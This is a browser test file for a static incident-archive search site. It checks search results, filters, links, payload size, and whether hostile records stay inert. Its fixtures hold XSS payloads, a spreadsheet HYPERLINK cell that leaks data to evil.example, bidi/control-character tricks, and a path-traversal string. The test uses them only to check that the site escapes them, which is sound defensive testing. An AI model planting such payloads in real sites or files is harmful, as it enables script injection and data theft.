// The search page in headless Chromium (Debian's), opened from file:// and from a local HTTP
// server: results and their order equal `incident-archive search --json`, filters work from
// the URL and from the form, hostile records never run script (in results and on their own
// pages), and a new user clicking through the site meets no broken link, console error or
// Content-Security-Policy violation.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { chromium, cli, HOSTILE, serve, site, withFilters } from "./helpers.mjs";

const { archive, site: siteDir } = site();
let server;
let browser;
let profile;

before(async () => {
  server = await serve(siteDir);
  ({ browser, profile } = await chromium());
});

after(async () => {
  await browser?.close();
  server?.close();
  if (profile) fs.rmSync(profile, { recursive: true, force: true });
});

const origins = () => [
  ["file", pathToFileURL(siteDir).href],
  ["http", `http://127.0.0.1:${server.address().port}`],
];

/** Opens the search page with a query in its URL and returns what it shows. */
async function results(page, base, query, filters = {}) {
  const params = new URLSearchParams({ q: query, ...filters });
  await page.goto(`${base}/search.html?${params}`);
  await page.waitForFunction(() => document.body.dataset.searchState === "done", null, { timeout: 20000 });
  return page.evaluate(() => ({
    hits: Array.from(document.querySelectorAll("#results li.hit"), (li) => [li.dataset.id, Number(li.dataset.score)]),
    status: document.getElementById("search-status").textContent,
    parsed: document.getElementById("search-status").dataset.parsed,
  }));
}

/** A few queries of each kind (helpers.mjs has them all, run in node): long lists, stemming,
 *  a phrase, operators, fields, a frequent customer, a rare owner, a year, nothing (all but the
 *  words alone load the grammar, `assets/parse.js`); and words that no record holds, which load
 *  the stemmer (`assets/stem.js`): `connectings` finds the records' `connection`, `zebra`
 *  nothing. */
const QUERIES = [
  "database",
  "leaking",
  "connection pool",
  '"connection pool exhaustion"',
  "query AND timeout AND database",
  "timeout -database",
  "root_cause:(slow query) -title:database",
  "customer:globalbank",
  'owner:"ledger ops"',
  "year:2019 AND dns",
  "connectings pool",
  "zebra",
];

for (const kind of ["file", "http"]) {
  test(`results equal the CLI's (${kind})`, async () => {
    const base = origins().find(([k]) => k === kind)[1];
    const page = await browser.newPage();
    const errors = [];
    const scripts = [];
    page.on("pageerror", (e) => errors.push(e.message));
    page.on("response", (r) => r.status() >= 400 && !r.url().endsWith("/favicon.ico") && errors.push(`${r.status()} ${r.url()}`));
    page.on("requestfinished", (r) => scripts.push(r.url()));
    for (const [q, f] of withFilters(QUERIES, 1, kind === "http" ? 3 : 0)) {
      const want = cli(archive, q, f);
      const got = await results(page, base, q, f);
      assert.deepEqual(got.hits, want.hits.map((h) => [h.id, Math.fround(h.score)]), `${q} ${JSON.stringify(f)}`);
      if (want.hits.length) assert.equal(got.parsed, want.parsed);
      else assert.match(got.status, /No record matches/);
    }
    assert.ok(scripts.some((u) => u.endsWith("/assets/stem.js")), "the stemmer loaded for a word no record holds");
    assert.ok(scripts.some((u) => u.endsWith("/assets/parse.js")), "the grammar loaded for a query of operators");
    assert.deepEqual(errors, []);
    await page.close();
  });
}

test("the form runs searches with filters, and links lead to incident pages", async () => {
  const page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${server.address().port}/search.html`);
  await page.waitForFunction(() => document.body.dataset.searchState === "ready");
  const severities = await page.$$eval("#severity option", (os) => os.map((o) => o.value));
  assert.deepEqual(severities, ["", "P1", "P2", "P3", "P4"]);
  await page.fill("#q", "memory leak");
  await page.selectOption("#severity", "P2");
  await page.fill("#customer", "GlobalBank Corp");
  await page.click("button[type=submit]");
  await page.waitForFunction(() => document.body.dataset.searchState === "done");
  const got = await page.$$eval("#results li.hit", (lis) => lis.map((li) => li.dataset.id));
  const want = cli(archive, "memory leak", { severity: "P2", customer: "GlobalBank Corp" });
  assert.deepEqual(got, want.hits.map((h) => h.id));
  assert.ok(got.length > 0);
  assert.match(page.url(), /\?q=memory\+leak&severity=P2&customer=GlobalBank\+Corp$/);
  const href = await page.$eval("#results li.hit a", (a) => a.getAttribute("href"));
  assert.equal(href, `incidents/${got[0]}.html`);
  assert.ok(fs.existsSync(`${siteDir}/${href}`), `${href} is a page of the site`);
  const marks = await page.$$eval("#results li.hit mark", (ms) => ms.map((m) => m.textContent.toLowerCase()));
  assert.ok(marks.every((m) => m.startsWith("memor") || m.startsWith("leak")), marks.join());
  await page.close();
});

test("a bad query says where, a CLI-only query says so", async () => {
  const page = await browser.newPage();
  const base = `http://127.0.0.1:${server.address().port}`;
  assert.match((await results(page, base, "nope:x")).status, /unknown field `nope`.*\(column 1\)/);
  assert.match((await results(page, base, "started:[2024-01-01 TO *]")).status, /ranges work in `incident-archive search`/);
  await page.close();
});

/** The titles of the hostile records (tests/fixtures/hostile), as pages show them: markup as
 *  text, control characters and bidi overrides as visible escapes. */
const HOSTILE_TITLES = {
  "CSV-1": '=HYPERLINK("https://evil.example/?leak="&A1,"open me") hostile spreadsheet cells',
  "CTRL-1": String.raw`CTRL-1 \u{0}nul \u{1b}[31mred\u{1b}[0m \u{202e}gnp.exe\u{202c} \u{9b}2J hostile controls`,
  "XSS-1": "<script>window.__pwned = 1</script> hostile markup",
  "XSS-2": '"><svg onload=window.__pwned=3> hostile title',
  "XSS-3": `<img src=x onerror="alert('fm')"> hostile front matter`,
};

/** A page that records what a user would notice going wrong: console errors, uncaught
 *  exceptions, dialogs, Content-Security-Policy violations, failed requests. */
async function watchedPage() {
  const page = await browser.newPage();
  const problems = [];
  const at = () => page.url();
  page.on("console", (m) => m.type() === "error" && problems.push(`console error on ${at()}: ${m.text()}`));
  page.on("pageerror", (e) => problems.push(`exception on ${at()}: ${e.message}`));
  page.on("dialog", (d) => {
    problems.push(`dialog on ${at()}: ${d.message()}`);
    d.dismiss().catch(() => {});
  });
  // A request cut short by the next navigation (the favicon, say) is aborted, not broken; a
  // missing file fails otherwise (a 404, `net::ERR_FILE_NOT_FOUND`).
  page.on("requestfailed", (r) => r.failure()?.errorText !== "net::ERR_ABORTED" && problems.push(`request failed on ${at()}: ${r.url()} ${r.failure()?.errorText}`));
  page.on("response", (r) => r.status() >= 400 && problems.push(`${r.status()} ${r.url()}`));
  await page.exposeFunction("__cspViolation", (v) => problems.push(`CSP violation on ${at()}: ${v}`));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      window.__cspViolation(`${e.violatedDirective} blocked ${e.blockedURI || "inline"} (${e.sourceFile}:${e.lineNumber})`),
    );
  });
  return { page, problems };
}

/** Opens `url` as a user would: it must load (status 200 over HTTP), leave nothing pending that
 *  could still report a violation, and not have run record script. */
async function visit(page, url) {
  const response = await page.goto(url, { waitUntil: "load" });
  if (url.startsWith("http:")) assert.equal(response?.status(), 200, url);
  else assert.ok(fs.existsSync(fileURLToPath(url.split("#")[0])), url);
  // CSP violation events are queued tasks: let them run before the next page.
  await page.evaluate(() => new Promise((r) => setTimeout(r, 0)));
  assert.equal(await page.evaluate(() => window.__pwned), undefined, `${url} ran record script`);
}

/** Everything on the open page that could run or lead somewhere dangerous, within `scope`:
 *  scripts other than the site's own files, embedded content, on* attributes, `javascript:`,
 *  `data:` and `vbscript:` URLs, SVG other than the site's charts, forms other than search. */
function activeContent(page, scope = "") {
  return page.evaluate((scope) => {
    const bad = [];
    const show = (e) => e.outerHTML.slice(0, 120);
    for (const e of document.querySelectorAll(`${scope} *`)) {
      const name = e.localName;
      if (name === "script") {
        const src = e.getAttribute("src") || "";
        if (!/^(\.\.\/)*(assets\/(site|search|search-key|actions)\.js|tracker\/[\w-]+\.js)$/.test(src) || e.textContent.trim()) bad.push(show(e));
      }
      if (["img", "iframe", "object", "embed", "base", "style", "math", "frame", "video", "audio", "link"].includes(name)) {
        if (!(name === "link" && e.closest("head") && /^(\.\.\/)*(assets\/(site|pages)\.css|assets\/favicon\.svg|feed\.xml|build\.css|print\/[A-Za-z0-9._-]+\.css)$/.test(e.getAttribute("href") || ""))) bad.push(show(e));
      }
      if (name === "svg" && !(e.classList.contains("chart") && !e.parentElement.closest("svg"))) bad.push(show(e));
      if (name === "form" && !/^(\.\.\/)*search\.html$/.test(e.getAttribute("action") || "")) bad.push(show(e));
      for (const a of e.attributes) {
        if (a.name.toLowerCase().startsWith("on")) bad.push(show(e));
        if (["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(a.name)) {
          const v = a.value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
          if (/^(javascript|data|vbscript):/.test(v)) bad.push(show(e));
        }
      }
    }
    return bad;
  }, scope);
}

test("hostile records never run script and show as text in results", async () => {
  for (const [, base] of origins()) {
    const { page, problems } = await watchedPage();
    const got = await results(page, base, "hostile");
    assert.deepEqual(got.hits.map((h) => h[0]).sort(), HOSTILE);
    await page.evaluate(() => new Promise((r) => setTimeout(r, 0)));
    const state = await page.evaluate(() => ({
      pwned: window.__pwned,
      elements: document.querySelectorAll("#results script, #results svg, #results img").length,
      handlers: Array.from(document.querySelectorAll("#results *")).filter((e) => Array.from(e.attributes).some((a) => a.name.startsWith("on"))).length,
      titles: Array.from(document.querySelectorAll("#results .hit-title"), (e) => e.textContent),
    }));
    assert.equal(state.pwned, undefined);
    assert.equal(state.elements, 0);
    assert.equal(state.handlers, 0);
    assert.deepEqual(await activeContent(page, "#results"), []);
    for (const title of Object.values(HOSTILE_TITLES)) assert.ok(state.titles.includes(title), state.titles.join(" | "));
    assert.deepEqual(problems, []);
    await page.close();
  }
});

test("hostile records' own pages, and their customers' and owners', run nothing", async () => {
  assert.deepEqual(Object.keys(HOSTILE_TITLES), HOSTILE);
  for (const [kind, base] of origins()) {
    const { page, problems } = await watchedPage();
    const related = new Set();
    for (const id of HOSTILE) {
      await visit(page, `${base}/incidents/${id}.html`);
      assert.deepEqual(await activeContent(page), [], `${kind} incidents/${id}.html`);
      assert.equal(await page.$eval("h1", (h) => h.textContent), HOSTILE_TITLES[id], `${id}: the title shows as text`);
      assert.ok((await page.title()).includes(HOSTILE_TITLES[id]), `${id}: the window title shows it as text`);
      for (const href of await page.$$eval("a[href]", (as) => as.map((a) => a.href))) {
        if (/\/(customers|owners)\/[^/]+\.html$/.test(href) && !href.endsWith("/index.html")) related.add(href);
      }
    }
    // `Evil "Corp"`, `"><img src=x onerror=alert(13)>`, `../../etc/passwd`, `<svg/onload=…>`…
    assert.ok(related.size >= 5, [...related].join(" "));
    for (const href of related) {
      assert.ok(href.startsWith(base + "/"), `${href} stays in the site`);
      await visit(page, href);
      assert.deepEqual(await activeContent(page), [], href);
    }
    assert.deepEqual(problems, []);
    await page.close();
  }
});

/** Checks that every link of the open page resolves: in-page anchors to an element, site links
 *  to a file of the site, others to http(s) or mailto only. Returns the site links. */
async function checkLinks(page, base) {
  const here = page.url().split("#")[0];
  const links = await page.$$eval("a[href]", (as) => as.map((a) => [a.getAttribute("href"), a.href]));
  assert.ok(links.length > 0, `${here} has links`);
  const inSite = new Set();
  for (const [raw, href] of links) {
    const [target, hash] = href.split("#");
    if (href.startsWith(base + "/")) {
      if (hash && target === here) {
        assert.ok(await page.$(`[id="${decodeURIComponent(hash)}"]`), `${here}: anchor ${raw}`);
      } else {
        inSite.add(target);
      }
    } else {
      assert.match(href, /^(https?:|mailto:)/, `${here}: link ${raw} leaves the site by an unexpected scheme`);
      assert.ok(!href.startsWith("file:") && !href.startsWith(`http://127.0.0.1`), `${here}: ${raw} escapes the site`);
    }
  }
  const targets = [...inSite];
  // The HTTP server serves the site's files as they are: a file on disk is a 200 there (each
  // page opened below is asserted so over HTTP).
  for (const t of targets) {
    const file = t.startsWith("file:") ? fileURLToPath(t) : path.join(siteDir, decodeURIComponent(new URL(t).pathname));
    assert.ok(fs.existsSync(file) && fs.statSync(file).isFile(), `${here}: ${t} does not exist`);
  }
  return targets;
}

/** Clicks, as a user would, the first visible link of the open page whose URL matches
 *  `pattern`, and waits for the page it leads to (a 200 over HTTP). */
async function click(page, pattern) {
  const from = page.url();
  const hrefs = await page.$$eval("a[href]", (as) => as.map((a) => (a.checkVisibility() ? a.href : "")));
  const i = hrefs.findIndex((h) => pattern.test(h));
  assert.ok(i >= 0, `${from} has a visible link to ${pattern}`);
  const [response] = await Promise.all([page.waitForNavigation({ waitUntil: "load" }), page.locator("a[href]").nth(i).click()]);
  assert.equal(page.url(), hrefs[i], `the link of ${from} leads where it says`);
  if (hrefs[i].startsWith("http:")) assert.equal(response?.status(), 200, hrefs[i]);
  await page.evaluate(() => new Promise((r) => setTimeout(r, 0)));
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  return hrefs[i];
}

/** The kind of a site page, so that one of each kind is opened: `incidents/*.html`,
 *  `./actions.pN.html`, `incidents/YYYY.html`… */
function pageKind(url, base) {
  const [, dir = ".", name, paged] = url.slice(base.length + 1).match(/^(?:(.*)\/)?([^/]+?)(\.p\d+)?\.html$/);
  const shown = name === "index" || dir === "." ? name : /^\d{4}$/.test(name) ? "YYYY" : "*";
  return `${dir}/${shown}${paged ? ".pN" : ""}.html`;
}

for (const kind of ["file", "http"]) {
  test(`a new user clicks through the site without an error (${kind})`, async () => {
    const base = origins().find(([k]) => k === kind)[1];
    const { page, problems } = await watchedPage();
    const opened = new Set();
    const open = async (url) => {
      if (opened.has(url)) return;
      opened.add(url);
      await visit(page, url);
    };
    // Every link of the home page, followed in the browser.
    const home = `${base}/index.html`;
    await open(home);
    const fromHome = await checkLinks(page, base);
    const pages = fromHome.filter((u) => u.endsWith(".html"));
    for (const url of pages) await open(url);
    for (const url of fromHome.filter((u) => !u.endsWith(".html"))) {
      assert.match(url, /\/(assets\/[\w.-]+|feed\.xml|incidents\.json)$/, "a file the home page links to");
    }
    // Clicked from the home page: an incident and one of its customers, the action-item tracker,
    // the retention page. Every link on them resolves; one page of each kind they link to opens.
    const kinds = new Map();
    const survey = async () => {
      for (const target of await checkLinks(page, base)) {
        if (target.endsWith(".html") && !kinds.has(pageKind(target, base))) kinds.set(pageKind(target, base), target);
      }
    };
    await visit(page, home);
    await click(page, /\/incidents\/INC-[\w-]+\.html$/);
    await survey();
    await click(page, /\/customers\/(?!index\.html)[^/]+\.html$/);
    await survey();
    for (const target of [/\/actions\.html$/, /\/retention\.html$/]) {
      await visit(page, home);
      await click(page, target);
      await survey();
    }
    for (const url of kinds.values()) await open(url);
    console.log(`# ${kind}: ${opened.size} pages opened, of the kinds ${[...kinds.keys()].join(", ")}`);
    assert.ok(opened.size > 40, `${opened.size} pages`);
    assert.deepEqual(problems, []);
    await page.close();
  });
}

test("a first query over HTTP loads only its shards, and under 150 KB with the page", async () => {
  const page = await browser.newPage();
  let shardBytes = 0;
  let allBytes = 0;
  const files = [];
  const requested = [];
  page.on("request", (r) => {
    const url = new URL(r.url());
    requested.push(url.pathname);
    const file = siteDir + decodeURIComponent(url.pathname);
    if (!fs.existsSync(file) || fs.statSync(file).isDirectory()) return;
    allBytes += fs.statSync(file).size;
    if (url.pathname.startsWith("/search/")) {
      files.push(url.pathname);
      shardBytes += fs.statSync(file).size;
    }
  });
  await results(page, `http://127.0.0.1:${server.address().port}`, "connection pool");
  // Words alone: search.js reads them without the grammar, and they hold no unknown word.
  assert.ok(!requested.includes("/assets/parse.js") && !requested.includes("/assets/stem.js"), requested.join(" "));
  const shards = fs.readdirSync(siteDir + "/search", { recursive: true }).map((f) => siteDir + "/search/" + f);
  const total = shards.reduce((n, f) => n + (fs.statSync(f).isFile() ? fs.statSync(f).size : 0), 0);
  assert.ok(shardBytes < total / 20, `${shardBytes} of ${total} bytes of shards`);
  assert.ok(allBytes < 150 * 1024, `${allBytes} bytes in all (page, styles, scripts, shards)`);
  console.log(`# first query: ${allBytes} bytes, ${shardBytes} of them in ${files.length} shards (of ${total} bytes)`);
  await page.close();
});
